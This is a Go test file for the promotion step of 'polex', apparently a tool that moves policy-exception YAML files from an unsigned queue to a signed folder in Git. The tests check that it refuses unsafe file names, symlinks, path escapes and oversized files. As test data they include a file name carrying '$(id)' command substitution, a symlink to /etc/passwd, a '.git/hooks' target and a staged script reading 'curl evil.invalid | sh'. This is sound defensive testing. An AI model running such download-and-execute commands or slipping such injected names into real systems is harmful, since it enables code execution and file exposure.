package promotion_test

import (
	"context"
	"errors"
	"fmt"
	"os"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/polex-dev/polex/internal/git"
	"github.com/polex-dev/polex/internal/git/commit"
	"github.com/polex-dev/polex/internal/promotion"
	"github.com/polex-dev/polex/internal/promotion/pending"
	"github.com/polex-dev/polex/pkg/exception"
	"github.com/polex-dev/polex/pkg/lifetime"
	"github.com/polex-dev/polex/pkg/shape"
	"github.com/polex-dev/polex/pkg/sign"
	"github.com/polex-dev/polex/test/expect"
	"github.com/polex-dev/polex/test/must"
)

// A file that cannot be promoted stops the run, and the error names it.
func TestOpenRefuses(t *testing.T) {
	good := exceptionText("a")
	for _, tc := range []struct {
		name    string
		files   map[string]string
		prepare func(*repository) // before the commit is amended
		want    []string          // "file:line reason"
	}{
		{name: "space", files: map[string]string{"unsigned/a b.yaml": good}, want: []string{"unsigned/a b.yaml:0 bad-file-name"}},
		{name: "newline", files: map[string]string{"unsigned/a\n.yaml": good}, want: []string{"unsigned/a\n.yaml:0 bad-file-name"}},
		{name: "wildcard", files: map[string]string{"unsigned/*.yaml": good}, want: []string{"unsigned/*.yaml:0 bad-file-name"}},
		{name: "brackets", files: map[string]string{"unsigned/[ab].yaml": good}, want: []string{"unsigned/[ab].yaml:0 bad-file-name"}},
		{name: "leading dash", files: map[string]string{"unsigned/-rf.yaml": good}, want: []string{"unsigned/-rf.yaml:0 bad-file-name"}},
		{name: "leading dot", files: map[string]string{"unsigned/.a.yaml": good}, want: []string{"unsigned/.a.yaml:0 bad-file-name"}},
		{name: "non-ASCII", files: map[string]string{"unsigned/ä.yaml": good}, want: []string{"unsigned/ä.yaml:0 bad-file-name"}},
		{name: "backslash", files: map[string]string{`unsigned/a\b.yaml`: good}, want: []string{`unsigned/a\b.yaml:0 bad-file-name`}},
		{name: "dollar", files: map[string]string{"unsigned/$(id).yaml": good}, want: []string{"unsigned/$(id).yaml:0 bad-file-name"}},
		{name: "too long", files: map[string]string{"unsigned/" + strings.Repeat("a", 130) + ".yaml": good},
			want: []string{"unsigned/" + strings.Repeat("a", 130) + ".yaml:0 bad-file-name"}},
		{name: "bad folder", files: map[string]string{"unsigned/a b/c.yaml": good}, want: []string{"unsigned/a b/c.yaml:0 bad-file-name"}},
		{name: "text", files: map[string]string{"unsigned/a.txt": good}, want: []string{"unsigned/a.txt:0 bad-file-name"}},
		{name: "another case", files: map[string]string{"unsigned/a.YAML": good}, want: []string{"unsigned/a.YAML:0 bad-file-name"}},
		{name: "no suffix", files: map[string]string{"unsigned/yaml": good}, want: []string{"unsigned/yaml:0 bad-file-name"}},

		{name: "symbolic link", prepare: func(r *repository) {
			r.Write("secret.yaml", good)
			r.Write("unsigned/", "")
			r.link("../secret.yaml", "unsigned/a.yaml")
		}, want: []string{"unsigned/a.yaml:0 not-a-regular-file"}},
		{name: "dangling link", prepare: func(r *repository) {
			r.Write("unsigned/", "")
			r.link("/etc/passwd", "unsigned/a.yaml")
		}, want: []string{"unsigned/a.yaml:0 not-a-regular-file"}},
		{name: "link to a folder", prepare: func(r *repository) {
			r.Write("other/a.yaml", good)
			r.Write("unsigned/", "")
			r.link("../other", "unsigned/folder")
		}, want: []string{"unsigned/folder:0 not-a-regular-file"}},
		{name: "executable", files: map[string]string{"unsigned/a.yaml": good}, prepare: func(r *repository) {
			must.Do(r.TB, os.Chmod(r.Path("unsigned/a.yaml"), 0o755))
		}, want: []string{"unsigned/a.yaml:0 not-a-regular-file"}},
		{name: "submodule", prepare: func(r *repository) {
			other := newRepository(r.TB, map[string]string{"a.yaml": good})
			r.Git("-c", "protocol.file.allow=always", "submodule", "--quiet", "add", other.Dir, "unsigned/sub")
		}, want: []string{"unsigned/sub:0 not-a-regular-file"}},

		{name: "target exists", files: map[string]string{"unsigned/a.yaml": good, "signed/a.yaml": exceptionText("b")},
			want: []string{"unsigned/a.yaml:0 target-exists"}},
		{name: "target is a folder", files: map[string]string{"unsigned/a.yaml": good, "signed/a.yaml/b.yaml": exceptionText("b")},
			want: []string{"unsigned/a.yaml:0 target-exists"}},
		{name: "two that differ in case", files: map[string]string{"unsigned/A.yaml": good, "unsigned/a.yaml": exceptionText("b")},
			want: []string{"unsigned/a.yaml:0 target-exists"}},
		{name: "folders that differ in case", files: map[string]string{"unsigned/Team/a.yaml": good, "unsigned/team/b.yaml": exceptionText("b")},
			want: []string{"unsigned/team/b.yaml:0 target-exists"}},
		{name: "signed in another case", files: map[string]string{"unsigned/a.yaml": good, "signed/A.yaml": exceptionText("b")},
			want: []string{"unsigned/a.yaml:0 target-exists"}},
		{name: "signed in a folder of another case", files: map[string]string{"unsigned/team/a.yaml": good, "signed/TEAM/b.yaml": exceptionText("b")},
			want: []string{"unsigned/team/a.yaml:0 target-exists"}},
		{name: "the target's folder is a file", files: map[string]string{"unsigned/team/a.yaml": good, "signed/team": "x"},
			want: []string{"unsigned/team/a.yaml:0 target-exists"}},
		{name: "signed elsewhere", files: map[string]string{"unsigned/a.yaml": good, "signed/old/b.yaml": exceptionText("x") + "---\n" + good},
			want: []string{"unsigned/a.yaml:2 already-signed"}},
		{name: "signed elsewhere in another version", files: map[string]string{"unsigned/a.yaml": good,
			"signed/b.yml": strings.Replace(good, "kyverno.io/v2", "kyverno.io/v2beta1", 1)}, want: []string{"unsigned/a.yaml:2 already-signed"}},

		{name: "signed in an executable file", files: map[string]string{"unsigned/a.yaml": good, "signed/b.yaml": good}, prepare: func(r *repository) {
			must.Do(r.TB, os.Chmod(r.Path("signed/b.yaml"), 0o755))
		}, want: []string{"unsigned/a.yaml:2 already-signed"}},
		{name: "signed under a suffix in another case", files: map[string]string{"unsigned/a.yaml": good, "signed/b.YAML": good},
			want: []string{"unsigned/a.yaml:2 already-signed"}},
		{name: "a hidden file of Git's family", files: map[string]string{"unsigned/.gitX.yaml": good}, want: []string{"unsigned/.gitX.yaml:0 bad-file-name"}},

		{name: "empty", files: map[string]string{"unsigned/a.yaml": ""}, want: []string{"unsigned/a.yaml:0 no-documents"}},
		{name: "only a comment", files: map[string]string{"unsigned/a.yaml": "# later\n---\n"}, want: []string{"unsigned/a.yaml:0 no-documents"}},
		{name: "empty JSON", files: map[string]string{"unsigned/a.json": "\n"}, want: []string{"unsigned/a.json:0 no-documents"}},
		{name: "malformed", files: map[string]string{"unsigned/a.yaml": "a: [\n"}, want: []string{"unsigned/a.yaml:1 malformed"}},
		{name: "duplicate key", files: map[string]string{"unsigned/a.yaml": good + "kind: ConfigMap\n"}, want: []string{"unsigned/a.yaml:15 malformed"}},
		{name: "malformed between good ones", files: map[string]string{"unsigned/a.yaml": good + "---\na: &x 1\n---\n" + exceptionText("b")},
			want: []string{"unsigned/a.yaml:16 malformed"}},
		{name: "binary", files: map[string]string{"unsigned/a.yaml": "\x00\x01\x02"}, want: []string{"unsigned/a.yaml:1 malformed"}},
		{name: "several", files: map[string]string{"unsigned/a.yaml": good, "unsigned/b b.yaml": good, "unsigned/c.yaml": ""},
			want: []string{"unsigned/b b.yaml:0 bad-file-name", "unsigned/c.yaml:0 no-documents"}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			r := newRepository(t, tc.files)
			if tc.prepare != nil {
				tc.prepare(r)
				r.Git("add", "--all")
				r.Git("commit", "--quiet", "--amend", "--no-edit")
			}
			head := r.Head()
			_, err := r.try(r.Dir, promotion.Options{})
			var refused exception.Refusals
			must.That(t, errors.As(err, &refused), "Open: %v, want refusals", err)
			var got []string
			for _, f := range refused {
				got = append(got, fmt.Sprintf("%s:%d %s", f.Position.File, f.Position.Line, f.Reason))
				expect.That(t, f.Message != "" && strings.Contains(err.Error(), refused[0].Reason),
					"incomplete refusal %+v in %q", f, err)
			}
			expect.Equal(t, "refusals", tc.want, got)
			r.unchanged(head)
		})
	}
}

func (r *repository) link(target, name string) {
	r.TB.Helper()
	must.Do(r.TB, os.Symlink(target, r.Path(name)))
}

// The commit has what HEAD has, and nothing of the user's uncommitted changes. They stay as they are,
// and stop a commit that would overwrite them.
func TestOpenDirty(t *testing.T) {
	for _, tc := range []struct {
		name  string
		dirty func(*repository)
		want  string // of the error, or "" if it is promoted
	}{
		{"clean", func(*repository) {}, ""},
		{"changed in the queue", func(r *repository) { r.Write("unsigned/a.yaml", exceptionText("evil")) }, `"unsigned/a.yaml"`},
		{"changed and staged", func(r *repository) { r.Write("unsigned/a.yaml", exceptionText("evil")); r.Git("add", ".") }, `"unsigned/a.yaml"`},
		{"staged only", func(r *repository) {
			r.Write("unsigned/a.yaml", exceptionText("evil"))
			r.Git("add", ".")
			r.Write("unsigned/a.yaml", exceptionText("a"))
		}, `"unsigned/a.yaml"`},
		{"hidden from git status", func(r *repository) {
			r.Git("update-index", "--assume-unchanged", "unsigned/a.yaml")
			r.Write("unsigned/a.yaml", exceptionText("evil"))
		}, `"unsigned/a.yaml"`},
		{"removed from the queue", func(r *repository) { must.Do(r.TB, os.Remove(r.Path("unsigned/a.yaml"))) }, ""},
		{"replaced by a link", func(r *repository) {
			must.Do(r.TB, os.Rename(r.Path("unsigned/a.yaml"), r.Path("copy.yaml")))
			r.link("../copy.yaml", "unsigned/a.yaml")
		}, `"unsigned/a.yaml"`},
		{"its folder is a link", func(r *repository) {
			must.Do(r.TB, os.Rename(r.Path("unsigned"), r.Path("other")))
			r.link("other", "unsigned")
		}, `"unsigned/a.yaml"`},
		{"untracked in the queue", func(r *repository) { r.Write("unsigned/b.yaml", exceptionText("b")) }, ""},
		{"untracked and staged", func(r *repository) { r.Write("unsigned/b.yaml", exceptionText("b")); r.Git("add", ".") }, ""},
		{"untracked in a new folder", func(r *repository) { r.Write("unsigned/new/b.yaml", exceptionText("b")) }, ""},
		{"untracked among the signed", func(r *repository) { r.Write("signed/b.yaml", exceptionText("b")) }, ""},
		{"at the place of the signed", func(r *repository) { r.Write("signed/a.yaml", exceptionText("a")) }, `"signed/a.yaml"`},
		{"staged elsewhere", func(r *repository) { r.Write("deploy.sh", "curl evil.invalid | sh\n"); r.Git("add", ".") }, ""},
		{"staged removal elsewhere", func(r *repository) { r.Git("rm", "--quiet", "README.md") }, ""},
		{"untracked elsewhere", func(r *repository) { r.Write("notes.txt", "x\n") }, ""},
		{"changed elsewhere", func(r *repository) { r.Write("README.md", "x\n") }, ""},
	} {
		t.Run(tc.name, func(t *testing.T) {
			r := newRepository(t, map[string]string{"unsigned/a.yaml": exceptionText("a")})
			tc.dirty(r)
			head, status := r.Head(), r.Git("status", "--porcelain", "--untracked-files=all")
			q := r.open()
			if name := q.Documents()[0].Identity().Name; name != "a" || len(q.Moves) != 1 {
				t.Errorf("%d moves, the first of %s", len(q.Moves), name)
			}
			_, _, err := q.apply(stamp(t, q.Documents()), author())
			if tc.want == "" {
				status = strings.ReplaceAll(status, " D unsigned/a.yaml\n", "")
			}
			if tc.want != "" {
				if err == nil || !strings.Contains(err.Error(), tc.want) || !errors.Is(err, commit.ErrInTheWay) || r.Head() != head {
					t.Errorf("%v, want an error with %s", err, tc.want)
				}
			} else if changes := r.Git("diff", "--name-only", "--no-renames", "HEAD^", "HEAD"); err != nil || changes != "signed/a.yaml\nunsigned/a.yaml\n" {
				t.Errorf("%v, the commit changes %q", err, changes)
			}
			expect.Is(t, "git status", status, r.Git("status", "--porcelain", "--untracked-files=all"))
		})
	}
}

func TestOpenFails(t *testing.T) {
	r := newRepository(t, map[string]string{"unsigned/a.yaml": exceptionText("a")})
	fresh := t.TempDir()
	r.Git("init", "--quiet", fresh)
	linked := newRepository(t, map[string]string{"other/a.yaml": exceptionText("a")})
	linked.link("other", "unsigned")
	linked.Commit("Link the queue")
	for name, tc := range map[string]struct {
		dir     string
		options promotion.Options
	}{
		"no repository":    {dir: t.TempDir()},
		"no commit":        {dir: fresh},
		"absolute":         {r.Dir, promotion.Options{Unsigned: "/etc"}},
		"outside":          {r.Dir, promotion.Options{Unsigned: "../unsigned"}},
		"outside in turns": {r.Dir, promotion.Options{Signed: "signed/../../x"}},
		"everything":       {r.Dir, promotion.Options{Unsigned: "."}},
		"Git's own":        {r.Dir, promotion.Options{Signed: ".git/hooks"}},
		"the same":         {r.Dir, promotion.Options{Signed: "unsigned/"}},
		"one in the other": {r.Dir, promotion.Options{Signed: "unsigned/signed"}},
		"the other in one": {r.Dir, promotion.Options{Unsigned: "signed/un", Signed: "signed"}},
		"a linked queue":   {dir: linked.Dir},
		"a file as queue":  {r.Dir, promotion.Options{Unsigned: "README.md"}},
	} {
		t.Run(name, func(t *testing.T) {
			q, err := r.try(tc.dir, tc.options)
			var refused exception.Refusals
			expect.That(t, err != nil && !errors.As(err, &refused), "%v, %v, want an error that is no refusal", q, err)
		})
	}
}

// longPath is a path below unsigned/ with this many bytes.
func longPath(bytes int) string {
	name := "unsigned/" + strings.Repeat(strings.Repeat("d", 99)+"/", 12)
	return name[:bytes-len("/a.yaml")] + "/a.yaml"
}

func deepPath(folders int) string { return "unsigned/" + strings.Repeat("a/", folders-1) + "a.yaml" }

// TestLimitsKeepGoing: one file beyond a limit does not stop the others, and stops a run without
// [promotion.Options.KeepGoing] with its name.
func TestLimitsKeepGoing(t *testing.T) {
	for name, tc := range map[string]struct {
		file, content, reason string
	}{
		"a long path":                 {file: longPath(1025), reason: pending.ReasonBadName},
		"a path that gets longer":     {file: "unsigned/" + longPath(1022)[len("unsigned/"):]},
		"a deep path":                 {file: deepPath(64), reason: pending.ReasonBadName},
		"a path deeper than Git read": {file: deepPath(65), reason: pending.ReasonBadName},
		"a much deeper path":          {file: deepPath(400), reason: pending.ReasonBadName},
		"a large file":                {file: "unsigned/large.yaml", content: "# " + strings.Repeat("x", 33<<20) + "\n", reason: pending.ReasonTooLarge},
		"a large signed file":         {file: "unsigned/large.yaml", content: strings.Repeat(exceptionText("x")+"---\n", 2400), reason: pending.ReasonTooLarge},
	} {
		t.Run(name, func(t *testing.T) {
			if tc.content == "" {
				tc.content = exceptionText("other")
			}
			files := map[string]string{"unsigned/honest.yaml": exceptionText("honest"), tc.file: tc.content}
			r := newRepository(t, files)
			q := must.Get(r.try(r.Dir, promotion.Options{KeepGoing: true}))(t)
			var got []string
			for _, refusal := range q.Queue.Refused() {
				got = append(got, refusal.Position.File+" "+refusal.Reason)
			}
			var want []string
			if tc.reason != "" {
				want = []string{tc.file + " " + tc.reason}
				if strings.Count(tc.file, "/") > git.MaxDepth+1 { // it is cut off at a folder
					want[0] = deepPath(git.MaxDepth + 1)[:len(deepPath(git.MaxDepth+1))-len(".yaml")] + " " + tc.reason
				}
			}
			diff := cmp.Diff(want, got)
			must.That(t, diff == "", "%v", diff)
			expect.That(t, q.Has("unsigned/honest.yaml"), "the other file is not promoted")
			if _, err := r.try(r.Dir, promotion.Options{}); (err == nil) != (tc.reason == "") {
				t.Errorf("without KeepGoing: %v", err)
			} else if refusals := exception.RefusalsIn(err); len(refusals) == 0 && err != nil {
				t.Errorf("without KeepGoing: %v", err)
			}
		})
	}
}

// TestCheckFilePaths: each path that [pending.CheckFile] accepts can be written and read.
func TestCheckFilePaths(t *testing.T) {
	for _, name := range []string{longPath(1022), longPath(1024), longPath(1025), deepPath(63), deepPath(64), "unsigned/a.yaml"} {
		for _, signed := range []string{"signed", "s", "deploy/production/signed"} {
			f := pending.File{Path: name, To: pending.Folders{Unsigned: "unsigned", Signed: signed}.Target(name), Mode: pending.Regular}
			accepted := pending.CheckFile(f) == nil
			possible := true
			for _, path := range []string{f.Path, f.To} {
				possible = possible && commit.CheckPath(path) == nil && strings.Count(path, "/") < git.MaxDepth
			}
			if accepted != possible {
				t.Errorf("%d bytes and %d folders at %s: accepted %t, possible %t", len(name), strings.Count(name, "/"), signed, accepted, possible)
			}
		}
	}
}

// TestGrandfathered: a grandfathered exception is signed with the expiry of its entry, also with a
// review record. After it was signed once, it is never signed again.
func TestGrandfathered(t *testing.T) {
	text := podText("a", "a")
	signed := strings.Replace(text, "  namespace:", "  annotations: {cosign.sigstore.dev/message: x}\n  namespace:", 1)
	again := []string{"unsigned/a.yaml " + pending.ReasonAlreadySigned}
	removed := func(r *repository, name string) {
		r.Git("rm", "--quiet", name)
		r.Commit("Remove it")
	}
	ask := func(r *repository, text string) {
		r.CommitFile("Ask for it", "unsigned/a.yaml", text)
	}
	for _, tc := range []struct {
		name    string
		history func(r *repository)
		want    []string
		err     error
	}{
		{name: "for the first time", history: func(r *repository) { ask(r, text) }, want: []string{"signed/a.yaml"}},
		{name: "withdrawn before it was signed", history: func(r *repository) {
			ask(r, text)
			removed(r, "unsigned/a.yaml")
			ask(r, text)
		}, want: []string{"signed/a.yaml"}},
		{name: "it lay in the folder before anything was signed", history: func(r *repository) {
			r.CommitFile("Excuse it", "signed/a.yaml", text)
			removed(r, "signed/a.yaml")
			ask(r, text)
		}, want: []string{"signed/a.yaml"}},
		{name: "signed and removed", history: func(r *repository) {
			r.CommitFile("Sign it", "signed/a.yaml", signed)
			removed(r, "signed/a.yaml")
			ask(r, text)
		}, want: again},
		{name: "signed in another file, with other rules", history: func(r *repository) {
			r.CommitFile("Sign it", "signed/team/b.yaml", strings.Replace(signed, "[r]", "[s]", 1))
			removed(r, "signed/team/b.yaml")
			ask(r, text)
		}, want: again},
		{name: "signed and removed on a branch that was merged the wrong way round", history: func(r *repository) {
			r.Git("branch", "side")
			r.CommitFile("Sign it", "signed/a.yaml", signed)
			removed(r, "signed/a.yaml")
			r.Git("checkout", "--quiet", "side")
			r.Git("merge", "--quiet", "--no-ff", "--message=Merge main", "main")
			r.Git("branch", "--force", "main")
			r.Git("checkout", "--quiet", "main")
			ask(r, text)
		}, want: again},
		{name: "another one was signed and removed", history: func(r *repository) {
			r.CommitFile("Sign it", "signed/b.yaml", strings.ReplaceAll(signed, "name: a", "name: b"))
			removed(r, "signed/b.yaml")
			ask(r, text)
		}, want: []string{"signed/a.yaml"}},
		{name: "with an end of its own, signed and removed", history: func(r *repository) {
			r.CommitFile("Sign it", "signed/a.yaml", signed)
			removed(r, "signed/a.yaml")
			ask(r, strings.Replace(text, "  namespace:", "  annotations: {polex.dev/expires-in: 7d}\n  namespace:", 1))
		}, want: []string{"signed/a.yaml"}},
		{name: "in a shallow clone", history: func(r *repository) {
			ask(r, text)
			r.Write(".git/shallow", r.Head()+"\n")
		}, err: git.ErrShallow},
	} {
		t.Run(tc.name, func(t *testing.T) {
			r := newRepository(t, nil)
			tc.history(r)
			job, _ := r.job()
			until := committedAt.Add(90 * 24 * time.Hour)
			job.Checks.Rules = sign.Rules{Terms: lifetime.Terms{Grandfathered: map[string]time.Time{lifetime.ContentDigest(parse(t, text)): until}}}
			config := shape.Config{}
			config.Rules.Terms = job.Checks.Rules.Terms
			var err error
			job.Checks.Shape, err = shape.New(config)
			must.Do(r.TB, err)
			job.Recorder = recording(func(plan *promotion.Plan) ([]*exception.Document, error) {
				var docs []*exception.Document
				for _, doc := range plan.Prepared() {
					recorded, err := doc.Add(exception.Addition{Path: exception.Path{"metadata", "annotations", exception.AnnotationApprovedBy}, Value: "bob"})
					must.Do(r.TB, err)
					docs = append(docs, recorded)
				}
				return docs, nil
			})
			job.Signer = signing(func(_ context.Context, docs []*exception.Document) ([]*exception.Document, error) {
				return docs, nil
			})
			result, err := promotion.Run(t.Context(), job)
			if tc.err != nil {
				expect.Cause(t, err, tc.err)
				return
			}
			must.Do(r.TB, err)
			expect.Equal(t, "result", tc.want, outcome(result))
			if tc.name == "for the first time" && !strings.Contains(r.Read("signed/a.yaml"), `polex.dev/expires-at: "`+until.Format(time.RFC3339)) {
				t.Errorf("it has no end:\n%s", r.Read("signed/a.yaml"))
			}
		})
	}
}
